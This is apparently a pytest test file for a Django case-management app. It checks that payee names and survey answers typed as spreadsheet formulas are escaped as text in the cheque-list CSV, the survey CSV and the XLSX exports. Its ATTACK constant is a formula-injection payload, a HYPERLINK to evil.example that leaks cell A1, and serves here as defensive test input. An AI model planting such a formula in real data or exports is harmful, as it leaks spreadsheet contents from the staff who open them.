"""Issue 13, attack 6: a payee or survey answer written as a spreadsheet formula must reach the
finance office's cheque list and the analyst's CSV and XLSX as text, never as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from caseworks.core.exports import csv_cell, safe_row
from caseworks.payments.models import Payment
from caseworks.payments.runs import (
    payment_run_approve,
    payment_run_dry_run,
    payment_run_prepare,
    payment_run_release,
)
from caseworks.payments.tests.builders import active_case, payment_staff
from caseworks.surveys.models import SurveyResponse
from caseworks.surveys.services import (
    survey_create,
    survey_question_add,
    survey_response_save,
    survey_send,
)

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_payee_named_as_a_formula_is_text_in_the_cheque_list(partner: Any) -> None:
    staff = payment_staff(partner)
    active_case(partner=partner, actor=staff["caseworker"], first_name=ATTACK, last_name="Roy")
    run = payment_run_prepare(
        acting_user=staff["caseworker"], delivery_partner=partner, benefit_month=dt.date(2026, 1, 1)
    )
    run = payment_run_dry_run(acting_user=staff["caseworker"], run=run)
    run = payment_run_approve(acting_user=staff["supervisor"], run=run)
    run = payment_run_release(acting_user=staff["supervisor"], run=run)
    response = _client(staff["supervisor"]).get(reverse("payments:run_cheques", args=[run.pk]))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1
    payee = Payment.objects.get(run=run).payee_name  # as the bank file holds it (30 characters)
    assert payee.startswith("=HYPERLINK(")
    assert rows[0]["payee_name"] == "'" + payee  # nothing lost: only the apostrophe added


@pytest.fixture
def answered_survey(users: dict[str, Any], partner: Any) -> Any:
    analyst = users["provincial_ministry_analyst"]
    survey = survey_create(acting_user=analyst, title="Providers")
    question = survey_question_add(
        acting_user=analyst, survey=survey, text="@SUM(1+1)", kind="text"
    )
    survey_send(
        acting_user=analyst,
        survey=survey,
        deadline=dt.date(2030, 1, 1),
        partner_ids=[partner.pk],
    )
    response = SurveyResponse.objects.get(survey=survey, delivery_partner=partner)
    survey_response_save(
        acting_user=users["partner_admin"],
        response=response,
        answers={question.pk: ATTACK},
        submit=True,
    )
    return survey


def test_survey_answer_as_a_formula_is_text_in_the_csv(
    users: dict[str, Any], answered_survey: Any
) -> None:
    web = _client(users["provincial_ministry_analyst"])
    response = web.get(reverse("surveys:results_export", args=[answered_survey.pk, "csv"]))
    assert response.status_code == 200
    header, row = list(csv.reader(io.StringIO(response.content.decode())))
    assert header[-1] == "'@SUM(1+1)"  # a question text is typed by a person too
    assert row[-1] == "'" + ATTACK


def test_survey_answer_as_a_formula_is_a_string_cell_in_the_analysts_xlsx(
    users: dict[str, Any], answered_survey: Any
) -> None:
    web = _client(users["provincial_ministry_analyst"])
    response = web.get(reverse("surveys:results_export", args=[answered_survey.pk, "xlsx"]))
    assert response.status_code == 200
    # What the analyst's spreadsheet reads: the cell is text, never a formula.
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    attack_cell = next(c for c in cells if str(c.value).endswith(ATTACK))
    assert attack_cell.data_type == "s"
    assert attack_cell.quotePrefix  # Excel's own mark for text typed with a leading apostrophe
    assert attack_cell.value == ATTACK
    assert not any(c.data_type == "f" for c in cells)
    # And in the file itself: no <f> (formula) element anywhere.
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_formula_rule_covers_every_leading_character_and_keeps_numbers() -> None:
    assert [csv_cell(x) for x in ("=1", "+1", "-1", "@a", "\tx", "\rx", "ok", "a=b")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        "ok",
        "a=b",
    ]
    assert safe_row([None, -5, "-5"]) == ["", -5, "'-5"]
